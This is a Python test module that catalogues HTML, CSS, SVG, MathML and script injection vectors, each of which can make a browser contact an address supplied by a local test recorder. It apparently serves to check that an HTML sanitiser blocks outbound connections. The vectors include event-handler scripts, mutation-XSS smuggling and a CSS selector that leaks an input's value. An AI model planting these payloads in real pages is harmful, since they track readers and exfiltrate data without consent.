"""Everything in an article that could open a connection, each under a name of its own.

In a text, ``{u}`` is the address that a connection would go to, ``{p}`` the same without
``http:``, and ``{c}`` the address of a file that leads there (a style sheet, a page …), which
:data:`CHAINS` gives. The markup is what an attacker writes, not what a sanitiser leaves of it.
"""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import quote

from tests.security.recorder import Recorder

SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"

MEDIA = {
    "img": '<img src="{u}">',
    "img-scheme-relative": '<img src="{p}">',
    "img-odd-spelling": '<IMG/SRC\n=\t"h&#116;tp:{p}"/>',
    "img-srcset": '<img srcset="{u} 1x, {u} 2x">',
    "img-unclosed": '<img src="{u}" alt="',
    "image-tag": '<image src="{u}">',
    "picture": '<picture><source srcset="{u}"><img></picture>',
    "input-image": '<input type="image" src="{u}">',
    "video": '<video autoplay muted src="{u}"></video>',
    "video-poster": '<video poster="{u}"></video>',
    "video-source": '<video autoplay muted><source src="{u}" type="video/mp4"></video>',
    "audio": '<audio autoplay src="{u}"></audio>',
    "audio-source": '<audio autoplay><source src="{u}" type="audio/ogg"></audio>',
    "track": '<video crossorigin="anonymous" src="data:video/mp4,"><track default src="{u}">'
    "</video>",
    "object": '<object data="{u}"></object>',
    "object-typed": '<object type="text/html" data="{u}"></object>',
    "embed": '<embed src="{u}">',
    "embed-typed": '<embed type="image/svg+xml" src="{u}">',
    "iframe": '<iframe src="{u}"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc=\"<img src='{u}'>\"></iframe>",
    "frameset": '<frameset><frame src="{u}"></frameset>',
    "background-body": '<body background="{u}">',
    "background-table": '<table background="{u}"><tr><td>x</td></tr></table>',
    "background-cell": '<table><tr><td background="{u}">x</td></tr></table>',
    "portal": '<portal src="{u}"></portal>',
    "fenced-frame": '<fencedframe src="{u}"></fencedframe>',
    "bgsound": '<bgsound src="{u}">',
    "applet": '<applet code="x" archive="{u}"></applet>',
    "template-shadow": '<div><template shadowrootmode="open"><img src="{u}"></template></div>',
    "noscript": '<noscript><img src="{u}"></noscript>',
}
LINKS = {
    "link-stylesheet": '<link rel="stylesheet" href="{u}">',
    "link-stylesheet-alternate": '<link rel="alternate stylesheet" title="x" href="{u}">',
    "link-prefetch": '<link rel="prefetch" href="{u}">',
    "link-preconnect": '<link rel="preconnect" href="{u}">',
    "link-preconnect-cross": '<link rel="preconnect" crossorigin href="{u}">',
    "link-dns-prefetch": '<link rel="dns-prefetch" href="{u}">',
    "link-prerender": '<link rel="prerender" href="{u}">',
    "link-preload-image": '<link rel="preload" as="image" href="{u}">',
    "link-preload-srcset": '<link rel="preload" as="image" imagesrcset="{u} 1x">',
    "link-preload-style": '<link rel="preload" as="style" href="{u}">',
    "link-preload-font": '<link rel="preload" as="font" crossorigin href="{u}">',
    "link-preload-fetch": '<link rel="preload" as="fetch" crossorigin href="{u}">',
    "link-modulepreload": '<link rel="modulepreload" href="{u}">',
    "link-icon": '<link rel="icon" href="{u}">',
    "link-touch-icon": '<link rel="apple-touch-icon" href="{u}">',
    "link-manifest": '<link rel="manifest" href="{u}">',
    "link-data-import": '<link rel="stylesheet" href="data:text/css,@import url({u})">',
    "base": '<base href="{u}/"><img src="relative.png">',
    "base-target": '<base href="{u}/" target="_top"><link rel="stylesheet" href="x.css">',
    "meta-refresh": '<meta http-equiv="refresh" content="0; url={u}">',
    "meta-refresh-quoted": '<meta http-equiv="Refresh" content="0;URL=\'{u}\'">',
    "speculation-rules": '<script type="speculationrules">{{"prefetch": [{{"source": "list", '
    '"urls": ["{u}"]}}]}}</script>',
}
STYLES = {
    "style-background": '<p style="background: url({u})">x</p>',
    "style-background-quoted": '<p style="background-image: url(&quot;{u}&quot;)">x</p>',
    "style-escaped": '<p style="back\\67 round: \\75rl({u})">x</p>',
    "style-image-set": "<p style=\"background-image: image-set('{u}' 1x)\">x</p>",
    "style-list": '<ul style="list-style: url({u})"><li>x</li></ul>',
    "style-border-image": '<p style="border: 9px solid; border-image: url({u}) 1">x</p>',
    "style-mask": '<p style="-webkit-mask-image: url({u})">x</p>',
    "style-shape": '<p style="float: left; shape-outside: url({u})">x</p>',
    "style-cursor": '<p style="cursor: url({u}), auto">x</p>',
    "style-filter": '<p style="filter: url({u}#f)">x</p>',
    "style-clip": '<p style="clip-path: url({u}#c)">x</p>',
    "css-import": "<style>@import url({u});</style>",
    "css-import-string": "<style>@import '{u}';</style>",
    "css-import-chain": "<style>@import url({c});</style>",
    "css-background": "<style>body {{ background: url({u}) }}</style><p>x",
    "css-content": "<style>p::before {{ content: url({u}) }}</style><p>x</p>",
    "css-font": "<style>@font-face {{ font-family: f; src: url({u}) }} p {{ font-family: f }}"
    "</style><p>x</p>",
    "css-variable": "<style>p {{ --a: url({u}); background: var(--a) }}</style><p>x</p>",
    "css-cross-fade": "<style>p {{ background: -webkit-cross-fade(url({u}), url({u}), 50%) }}"
    "</style><p>x</p>",
    "css-svg-style": "<svg><style>@import '{u}';</style></svg>",
    "css-scrollbar": "<style>::-webkit-scrollbar {{ background: url({u}) }} "
    "div {{ height: 9px; overflow: scroll }}</style><div>x</div>",
    "css-attribute": "<style>input[value^='s'] {{ background: url({u}) }}</style>"
    "<input value='secret'>",
}
DRAWINGS = {
    "svg-image": '<svg><image href="{u}" width="9" height="9"/></svg>',
    "svg-image-xlink": f'{SVG}><image xlink:href="{{u}}" width="9" height="9"/></svg>',
    "svg-use": '<svg><use href="{u}#x"/></svg>',
    "svg-fe-image": '<svg><filter id="f"><feImage href="{u}"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/></svg>',
    "svg-foreign": '<svg><foreignObject width="99" height="99"><img src="{u}">'
    "</foreignObject></svg>",
    "svg-foreign-frame": '<svg><foreignObject width="99" height="99"><iframe src="{u}"/>'
    "</foreignObject></svg>",
    "svg-animate": '<svg><image width="9" height="9"><set attributeName="href" to="{u}"/></image>'
    "</svg>",
    "svg-script": '<svg><script href="{u}"></script></svg>',
    "svg-onload": "<svg onload=\"new Image().src = '{u}'\"></svg>",
    "svg-in-object": f"<object data=\"data:image/svg+xml,{SVG}><image xlink:href='{{u}}'/></svg>\">"
    "</object>",
    "math-link": '<math href="{u}"><mi onclick="x" id="m">x</mi></math>'
    "<script>document.querySelector('math').dispatchEvent(new MouseEvent('click', "
    "{{bubbles: true}}))</script>",
    "math-smuggled": '<math><mtext><table><mglyph><style><img src="{u}"></style></mglyph></table>'
    "</mtext></math>",
    "svg-smuggled": '<svg></p><style><a id="</style><img src={u}>"></svg>',
}
FRAMES = {
    "data-frame": "<iframe src=\"data:text/html,<img src='{u}'>\"></iframe>",
    "data-frame-refresh": '<iframe src="data:text/html,<meta http-equiv=refresh content=0;{u}>">'
    "</iframe>",
    "data-object": "<object data=\"data:text/html,<img src='{u}'>\"></object>",
    "data-embed": "<embed src=\"data:text/html,<img src='{u}'>\">",
    "data-xslt": "<iframe src=\"data:text/xml,<?xml-stylesheet href='{u}'?><x/>\"></iframe>",
    "frame-chain": '<iframe src="{c}"></iframe>',
    "frame-script": "<iframe src=\"javascript:new Image().src='{u}'\"></iframe>",
}
FORMS = {
    "form": '<form id="f" action="{u}"><input name="a"></form><script>f.submit()</script>',
    "form-button": '<form><button id="b" formaction="{u}">x</button></form>'
    "<script>b.click()</script>",
    "form-post": '<form id="f" method="post" action="{u}"></form><script>f.submit()</script>',
    "link-click": '<a id="a" href="{u}">x</a><script>a.click()</script>',
    "link-ping": '<a id="a" href="#x" ping="{u}">x</a><script>a.click()</script>',
    "link-blank": '<a id="a" target="_blank" href="{u}">x</a><script>a.click()</script>',
}
SCRIPTS = {
    "script-src": '<script src="{u}"></script>',
    "script-module": '<script type="module" src="{u}"></script>',
    "script-import": "<script>import('{u}')</script>",
    "script-chain": '<script src="{c}"></script>',
    "script-image": "<script>new Image().src = '{u}'</script>",
    "script-fetch": "<script>fetch('{u}', {{mode: 'no-cors'}})</script>",
    "script-xhr": "<script>x = new XMLHttpRequest(); x.open('GET', '{u}'); x.send()</script>",
    "script-beacon": "<script>navigator.sendBeacon('{u}')</script>",
    "script-event-source": "<script>new EventSource('{u}')</script>",
    "script-socket": "<script>new WebSocket('ws:{p}')</script>",
    "script-worker": "<script>new Worker(URL.createObjectURL(new Blob([\"importScripts('{u}')\"]"
    ")))</script>",
    "script-open": "<script>open('{u}')</script>",
    "script-location": "<script>location = '{u}'</script>",
    "script-webrtc": "<script>c = new RTCPeerConnection({{iceServers: [{{urls: 'stun:' + "
    "'{p}'.split('/')[2]}}]}}); c.createDataChannel('x'); "
    "c.createOffer().then(o => c.setLocalDescription(o))</script>",
    "script-write": "<script>document.write('<img src=\"{u}\">')</script>",
    "event-error": '<img src="x:y" onerror="new Image().src = \'{u}\'">',
    "event-body": "<body onload=\"new Image().src = '{u}'\">",
    "event-focus": "<input autofocus onfocus=\"new Image().src = '{u}'\">",
    "event-toggle": "<details open ontoggle=\"new Image().src = '{u}'\">x</details>",
    "event-animation": "<style>@keyframes k {{}} p {{ animation: k 1s }}</style>"
    "<p onanimationstart=\"new Image().src = '{u}'\">x</p>",
}
GROUPS = (MEDIA, LINKS, STYLES, DRAWINGS, FRAMES, FORMS, SCRIPTS)

CHAINS = {
    "css-import-chain": ("text/css", "@import url({u}); p {{ background: url({u}) }}"),
    "frame-chain": ("text/html", '<img src="{u}">'),
    "script-chain": ("text/javascript", "new Image().src = '{u}'"),
}
"""What the first link of a chain answers. A chain counts as reached at its first link."""


def make_vectors(recorder: Recorder) -> dict[str, str]:
    """All of them, by name, with addresses of *recorder* in them."""
    made = {}
    for group in GROUPS:
        for name, markup in group.items():
            address = recorder.address(name)
            words = {"u": address, "p": address.removeprefix("http:"), "c": address}
            if name in CHAINS:
                last = recorder.address(f"{name}-end")
                media_type, text = CHAINS[name]
                recorder.answer(name, media_type, text.format(u=last))
            made[name] = filled(markup, words.__getitem__)
    return made


def filled(markup: str, word: Callable[[str], str]) -> str:
    """The markup with its addresses; inside of a ``data:`` address they are quoted."""
    words = {name: word(name) for name in "upc"}
    if "data:text" in markup or "data:image" in markup:
        words = {name: quote(text, safe=":/") for name, text in words.items()}
    return markup.format(**words)
